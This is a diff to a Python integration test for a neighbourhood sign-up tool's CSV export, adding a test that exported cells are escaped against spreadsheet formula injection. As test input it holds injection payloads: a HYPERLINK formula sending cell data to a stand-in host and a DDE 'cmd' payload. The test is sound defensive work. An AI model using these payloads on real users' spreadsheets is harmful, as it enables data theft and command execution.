@@ -10,6 +10,7 @@ import pytest
 from buurtwhatsapp import cli
 from buurtwhatsapp.links import Purpose
 from buurtwhatsapp.model import MAIL, mail_document
+from buurtwhatsapp.spreadsheet_cells import restore
 from tests.integration.conftest import link
 
 pytestmark = pytest.mark.emulator
@@ -80,12 +81,39 @@ def test_export_writes_the_chosen_signups_as_csv(residents, tmp_path):
     code, output = run("signups", "export", "--group", "dorp", "--output", str(target))
     assert code == 0 and "1 sign-up(s) written" in output
     [row] = list(csv.DictReader(target.open(encoding="utf-8")))
+    row = {field: restore(cell) for field, cell in row.items()}
     assert (row["id"], row["name"], row["phone"]) == (residents, "Zoë van 't Veld", "+31612345678")
     assert row["status"] == "confirmed"
 
     code, output = run("signups", "export", "--status", "pending")
     assert code == 0
     assert "sem@example.org" in output and "zoe@example.org" not in output
+
+
+def test_the_export_runs_no_formula_in_a_spreadsheet_and_loses_nothing(
+    function_client, firestore_client, valid_signup, tmp_path
+):
+    typed = {
+        "name": '=HYPERLINK("https://ev.il/?"&E2&F2,"Klik hier")',
+        "street": "-1+cmd|' /C calc'!A0",
+        "remarks": "@SUM(1+1)\r\nen meer",
+    }
+    response = function_client("signup").post(
+        "/signup", data={**valid_signup, **typed, "house_number": "7", "postcode": "2158 ZZ"}
+    )
+    assert response.status_code == 303
+
+    target = tmp_path / "all.csv"
+    assert run("signups", "export", "--output", str(target))[0] == 0
+    [row] = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
+
+    for field in ("name", "street", "remarks", "phone"):
+        assert row[field].startswith("'"), field  # a spreadsheet shows it as text
+    restored = {field: restore(cell) for field, cell in row.items()}
+    assert restored["name"] == typed["name"]
+    assert restored["street"] == typed["street"]
+    assert restored["remarks"] == "@SUM(1+1)\nen meer"
+    assert restored["phone"] == "+31612345678"
 
 
 @pytest.mark.parametrize("who", [("--email", "ZOE@example.org"), ("--phone", "06-12345678")])
